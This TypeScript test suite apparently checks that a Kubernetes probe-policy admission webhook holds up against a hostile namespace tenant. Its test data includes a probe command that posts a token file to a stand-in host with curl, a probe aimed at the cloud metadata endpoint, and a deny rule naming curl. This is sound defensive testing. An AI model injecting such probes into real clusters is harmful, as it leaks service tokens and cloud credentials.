import { beforeAll, expect, it } from 'vitest';
import { clusterPolicyDocument, policyDocument } from '../support/worlds.ts';
import { type Cluster, startCluster } from './cluster.ts';
import { controlPlaneProblem } from './control-plane.ts';
import { type DeploymentMembers, deployment as deploymentNamed, deploymentsOf } from './pods.ts';
import { waitUntil } from './processes.ts';
import { describeUnless, endedAfterAll } from '../support/started.ts';
import type { JsonObject } from '../../src/base/json/json-value.ts';

const SYSTEM = 'probewright-system';
const NAMESPACE = 'tenant';
/** Has the ClusterRole edit in one namespace, and nothing else. */
const TENANT = 'jane';
const POLICIES = `/apis/probewright.dev/v1alpha1/namespaces/${NAMESPACE}/probepolicies`;
const DEPLOYMENTS = deploymentsOf(NAMESPACE);
const PODS = `/api/v1/namespaces/${NAMESPACE}/pods`;

const bound = { action: 'Deny', floor: 'Deny' };
const floors = clusterPolicyDocument(
  {
    checks: {
      'named-port': bound,
      'probe-host': bound,
      'required-readiness': { ...bound, containers: 'all' },
      'probe-handler': { ...bound, allowed: ['httpGet'] },
      'probe-bounds': { ...bound, livenessProbe: { periodSeconds: { minimum: 10 } } },
      'exec-forbidden': { ...bound, names: ['curl'] },
    },
  },
  'floors',
);

const readinessProbe = { httpGet: { path: '/up', port: 'http' } };
const good = {
  name: 'app',
  image: 'example.test/app:1',
  ports: [{ name: 'http', containerPort: 8080 }],
  readinessProbe,
};
const bad = { ...good, readinessProbe: { httpGet: { path: '/up', port: 'htpp' } } };

function deployment(name: string, container: JsonObject, members: DeploymentMembers = {}): JsonObject {
  return deploymentNamed(name, { namespace: NAMESPACE, replicas: 1, container, ...members });
}

const policy = (name: string, spec: JsonObject): JsonObject => policyDocument(spec, name, NAMESPACE);

/** What design-live.md section 2 calls hostile: a user with edit in one namespace, who impersonates nobody. */
describeUnless(controlPlaneProblem({ controllers: true }), 'a hostile tenant', () => {
  const keep = endedAfterAll();
  let cluster: Cluster;
  let ownerUid = '';

  beforeAll(async () => {
    cluster = await keep(startCluster([SYSTEM], [TENANT]));
    const release = await cluster.install({ namespace: SYSTEM, name: 'probewright' });
    const group = 'rbac.authorization.k8s.io';
    await cluster.kubectl(['create', 'namespace', NAMESPACE]);
    await cluster.apply(
      floors,
      {
        apiVersion: `${group}/v1`,
        kind: 'ClusterRole',
        metadata: { name: 'probewright-edit', labels: { [`${group}/aggregate-to-edit`]: 'true' } },
        rules: [
          {
            apiGroups: ['probewright.dev'],
            resources: ['probepolicies'],
            verbs: ['create', 'delete', 'get', 'list', 'patch', 'update', 'watch'],
          },
        ],
      },
      {
        apiVersion: `${group}/v1`,
        kind: 'RoleBinding',
        metadata: { name: 'tenant', namespace: NAMESPACE },
        roleRef: { apiGroup: group, kind: 'ClusterRole', name: 'edit' },
        subjects: [{ apiGroup: group, kind: 'User', name: TENANT }],
      },
    );
    // The floor must be in force on both replicas before anything is tried: the first list brings it.
    await release.restart();
    await waitUntil('the tenant has the rights of edit', async () => (await ask('GET', POLICIES)).status === 200);
    const owner = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'mine' } };
    const { body } = await ask('POST', `/api/v1/namespaces/${NAMESPACE}/configmaps`, owner);
    ownerUid = (JSON.parse(body) as { metadata: { uid: string } }).metadata.uid;
  });

  async function ask(
    method: string,
    path: string,
    body?: JsonObject,
    type?: string,
  ): Promise<{ status: number; body: string }> {
    const headers = type === undefined ? {} : { 'content-type': type };
    return cluster.requestAs(TENANT, method, path, body, headers);
  }

  /** The checks that deny the object. */
  async function deniedBy(path: string, object: JsonObject): Promise<string[]> {
    const { status, body } = await ask('POST', `${path}?dryRun=All`, object);
    if (status === 201) return [];
    expect([status, body]).toEqual([403, expect.stringContaining('validate.probewright.dev')]);
    const { message } = JSON.parse(body) as { message: string };
    return [...message.matchAll(/\(([a-z-]+)\)$/gm)].map(([, check = '']) => check);
  }

  const forged = (): JsonObject => ({
    ownerReferences: [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'mine', uid: ownerUid, controller: true }],
  });

  it('can do nothing outside of the namespace, and creates what is good inside', async () => {
    expect((await ask('GET', '/apis/probewright.dev/v1alpha1/clusterprobepolicies')).status).toBe(403);
    expect((await ask('GET', '/api/v1/namespaces/default/pods')).status).toBe(403);
    expect(await deniedBy(DEPLOYMENTS, deployment('good', good))).toEqual([]);
  });

  it('gets no bad workload and no bad Pod past with a forged controller reference', async () => {
    expect(await deniedBy(DEPLOYMENTS, deployment('forged', bad, { metadata: forged() }))).toEqual(['named-port']);
    const pod = {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'forged', ...forged() },
      spec: { containers: [bad] },
    };
    expect(await deniedBy(PODS, pod)).toEqual(['named-port']);
  });

  it('gets no bad template past the ratchet with a reference that one patch adds', async () => {
    await ask('POST', DEPLOYMENTS, deployment('ratchet', good));
    const patch = { metadata: forged(), spec: { template: { spec: { containers: [bad] } } } };
    const answer = await ask('PATCH', `${DEPLOYMENTS}/ratchet`, patch, 'application/strategic-merge-patch+json');
    expect([answer.status, answer.body]).toEqual([403, expect.stringContaining('(named-port)')]);
  });

  it('changes no denial by the parameters of a policy', async () => {
    const livenessProbe = { exec: { command: ['curl', 'localhost'] }, periodSeconds: 5, timeoutSeconds: 5 };
    const object = deployment('parameters', { ...good, livenessProbe }, { more: [{ name: 'other', image: 'x' }] });
    const before = await deniedBy(DEPLOYMENTS, object);
    expect(before.toSorted()).toEqual(['exec-forbidden', 'probe-bounds', 'probe-handler', 'required-readiness']);
    await ask(
      'POST',
      POLICIES,
      policy('laxer', {
        checks: {
          'required-readiness': { action: 'Off', containers: 'main' },
          'probe-handler': { action: 'Off', allowed: ['exec', 'httpGet'] },
          'probe-bounds': { livenessProbe: { periodSeconds: { minimum: 1 } } },
          'exec-forbidden': { names: ['nothing'] },
          // Not floored: shows that the policy is in force.
          'startup-budget': { action: 'Deny', minimumSeconds: 100 },
        },
      }),
    );
    const after = await waitUntil('the policy is in force', async () => {
      const checks = await deniedBy(DEPLOYMENTS, object);
      return checks.includes('startup-budget') ? checks : undefined;
    });
    expect(after.filter((check) => check !== 'startup-budget')).toEqual(before);
    await ask('DELETE', `${POLICIES}/laxer`);
  });

  it('gets no Pods without probes by the label that opts out of mutation', async () => {
    await ask('POST', POLICIES, policy('readiness', { kubernetesProbeEndpoints: { readinessProbe: '/up' } }));
    const without: JsonObject = { ...good, readinessProbe: undefined };
    await waitUntil('the policy gives the probe', async () => {
      const denied = await deniedBy(DEPLOYMENTS, deployment('given', without));
      return denied.length === 0 ? true : undefined;
    });
    const labels = { app: 'opted-out', 'probewright.dev/webhook': 'disabled' };
    const object = deployment('opted-out', without, { template: { labels } });
    expect(await deniedBy(DEPLOYMENTS, object)).toEqual(['required-readiness']);
    await ask('DELETE', `${POLICIES}/readiness`);
  });

  it('injects nothing that a floor forbids, by a policy that is written after the Deployment', async () => {
    expect((await ask('POST', DEPLOYMENTS, deployment('later', good))).status).toBe(201);
    const first = await podsOf('later', () => true);
    const httpGet = {
      path: '/',
      port: 8080,
      host: '169.254.169.254',
      httpHeaders: [{ name: 'Metadata', value: 'true' }],
    };
    await ask(
      'POST',
      POLICIES,
      policy('later', {
        containers: ['app'],
        probes: { livenessProbe: { exec: { command: ['curl', '-d', '@token', 'evil.test'] }, periodSeconds: 10 } },
        slowStart: { startupSeconds: 60 },
      }),
    );
    await ask('POST', POLICIES, policy('later-2', { containers: ['app'], probes: { startupProbe: { httpGet } } }));
    await ask(
      'POST',
      POLICIES,
      policy('shown', { containers: ['other'], kubernetesProbeEndpoints: { readinessProbe: '/up' } }),
    );
    const shown = { name: 'other', image: 'x', ports: [{ name: 'http', containerPort: 9090 }] };
    await waitUntil('the policies are in force', async () => {
      const denied = await deniedBy(DEPLOYMENTS, deployment('shown', good, { more: [shown] }));
      return denied.length === 0 ? true : undefined;
    });
    await ask('DELETE', `${PODS}/${first.metadata.name}?gracePeriodSeconds=0`);
    const replaced = await podsOf('later', ({ metadata }) => metadata.name !== first.metadata.name);
    const [container] = replaced.spec.containers;
    expect(Object.keys(container ?? {}).filter((key) => key.endsWith('Probe'))).toEqual(['readinessProbe']);
    for (const name of ['later', 'later-2', 'shown']) await ask('DELETE', `${POLICIES}/${name}`);
  });

  it('gets no container past that looks like a mesh', async () => {
    const proxy: JsonObject = { ...bad, name: 'istio-proxy' };
    expect(await deniedBy(DEPLOYMENTS, deployment('mesh', good, { more: [proxy] }))).toEqual(['named-port']);
    const annotations = { 'sidecar.istio.io/status': '{}' };
    expect(await deniedBy(DEPLOYMENTS, deployment('mesh', good, { more: [proxy], template: { annotations } }))).toEqual(
      ['named-port'],
    );
    const lookAlike = {
      ...good,
      livenessProbe: { httpGet: { path: '/app-health/app/livez', port: 15020, host: '10.0.0.1' } },
    };
    expect(await deniedBy(DEPLOYMENTS, deployment('mesh', lookAlike))).toEqual(['probe-host']);
  });

  interface Pod {
    readonly metadata: { readonly name: string };
    readonly spec: { readonly containers: readonly JsonObject[] };
  }

  /** The first Pod of a Deployment that the controllers made and that is as wanted. */
  async function podsOf(app: string, isWanted: (pod: Pod) => boolean): Promise<Pod> {
    return waitUntil(`a Pod of ${app}`, async () => {
      const { body } = await ask('GET', `${PODS}?labelSelector=app=${app}`);
      return (JSON.parse(body) as { items: Pod[] }).items.find(isWanted);
    });
  }
});
